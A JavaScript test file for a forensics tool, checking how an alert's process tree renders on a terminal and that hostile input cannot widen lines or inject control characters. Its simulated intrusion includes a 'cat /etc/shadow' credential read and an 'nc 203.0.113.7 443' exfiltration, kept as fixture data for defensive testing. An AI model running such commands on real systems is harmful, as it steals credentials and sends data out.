// The story of an alert on a terminal.
import assert from 'node:assert/strict'
import pc from 'picocolors'
import { storyLines } from '../../../../cli/terminal/story-text.js'
import { StoryBuilder } from '../../../../processors/forensics/story/story.js'
import { HOST_START_US, HostEvents } from '../../../support/forensics/host-events.js'
import { hostileStory } from '../../../support/forensics/hostile-story.js'
import { HOSTILE_TEXTS } from '../../../support/records/hostile-alert.js'

const PLAIN = pc.createColors(false)

describe('the story of an alert on a terminal', () => {
  it('is a tree of processes with what they did', () => {
    const host = new HostEvents()
    const shell = host.spawn(host.init(), 500, '/bin/bash')
    for (let pid = 501; pid < 506; pid++) host.exit(host.spawn(shell, pid, '/usr/bin/id'))
    const cat = host.spawn(shell, 510, '/bin/cat', '/etc/shadow')
    host.file(cat, '/etc/shadow')
    const alert = host.alert(cat, { alertId: 'a1'.repeat(16) })
    host.network(host.spawn(cat, 511, '/usr/bin/nc', '203.0.113.7', '443'), { bytesSent: 2048, type: 'close' })
    const builder = new StoryBuilder(alert, { fromUs: HOST_START_US, toUs: HOST_START_US + 60_000_000 })
    for (const event of host.events) builder.add(event)
    const lines = storyLines(builder.story(), 80, PLAIN)
    assert.deepEqual(lines.slice(lines.indexOf('') + 1), [
      'systemd (1)',
      '│   $ /sbin/init',
      '└─ 06:00:00.001 bash (500) root',
      '   │   $ /bin/bash',
      '   ├─ 06:00:00.003 id (501, 502 ... 5 processes) root',
      '   │      $ /usr/bin/id',
      '   │      the last ended 06:00:00.017000, status 0',
      '   └─ 06:00:00.018 cat (510) root ◀ the alert',
      '      │   $ /bin/cat /etc/shadow',
      '      │   alert Credential file read 06:00:00.021000',
      '      │   - read /etc/shadow 06:00:00',
      '      └─ 06:00:00.022 nc (511) root',
      '             $ /usr/bin/nc 203.0.113.7 443',
      '             > close, 2.0 KiB out, 0 B in 203.0.113.7:443 tcp 06:00:00',
      '',
      '4 processes are joined with equal siblings',
    ])
  })

  it('never is wider than the terminal, and has no control character of an event', () => {
    for (const text of HOSTILE_TEXTS) {
      for (const line of storyLines(hostileStory(text), 80, PLAIN)) {
        assert.ok([...line].length <= 80, line)
        assert.ok(!/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/.test(line), JSON.stringify(line))
      }
    }
  })
})
